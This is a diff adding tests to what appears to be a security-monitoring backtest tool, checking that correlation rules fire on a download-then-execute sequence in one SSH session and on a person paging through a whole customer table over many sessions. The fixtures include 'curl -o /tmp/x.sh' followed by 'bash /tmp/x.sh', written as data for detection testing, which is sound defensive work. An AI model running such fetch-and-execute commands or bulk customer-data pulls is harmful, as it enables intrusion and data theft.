@@ -131,6 +131,49 @@ describe('--each', () => {
     expect(out).not.toMatch(/[\u001B\u202E]/)
   })
 
+  describe('tells rules over several events', () => {
+    const minute = 60_000
+    const idsOf = async (name: string, history: readonly unknown[]): Promise<string[][]> => {
+      const { out } = await backtest('--events', file(name, history), '--each', '--json')
+      return out
+        .trimEnd()
+        .split('\n')
+        .map(text => (JSON.parse(text) as { rules: { id: string }[] }).rules.map(({ id }) => id))
+    }
+    const fetched = { ...line, text: 'curl -o /tmp/x.sh https://example.net/x.sh' }
+    const run = { ...line, text: 'bash /tmp/x.sh' }
+
+    test('of one session, with the event that completes them', async () => {
+      const [, second] = await idsOf('w1.ndjson', [fetched, { ...run, at: minute }])
+      expect(second).toContain('SSH-11b')
+    })
+
+    test('and none of two: other people, other targets, other names, and what came hours later', async () => {
+      for (const [at, other] of [
+        { principal: 'bob', at: minute },
+        { target: 'web2', at: minute },
+        { session: 'b', at: minute },
+        { at: 3 * 60 * minute },
+      ].entries()) {
+        const [, second] = await idsOf(`w2-${at}.ndjson`, [fetched, { ...run, ...other }])
+        expect(second, JSON.stringify(other)).not.toContain('SSH-11b')
+      }
+    })
+
+    test('of one person over many sessions', async () => {
+      const pages = Array.from({ length: 24 }, (_, page) => ({
+        ...line,
+        protocol: 'postgres',
+        at: page * 8 * 60 * minute,
+        text: `SELECT * FROM customers ORDER BY id LIMIT 1000 OFFSET ${page * 1000}`,
+      }))
+      expect((await idsOf('w3.ndjson', pages)).map(ids => ids.includes('B-04'))).toEqual([
+        ...Array<boolean>(23).fill(false),
+        true,
+      ])
+    })
+  })
+
   test('takes rules of one’s own', async () => {
     const { out, code, err } = await backtest(
       '--events',
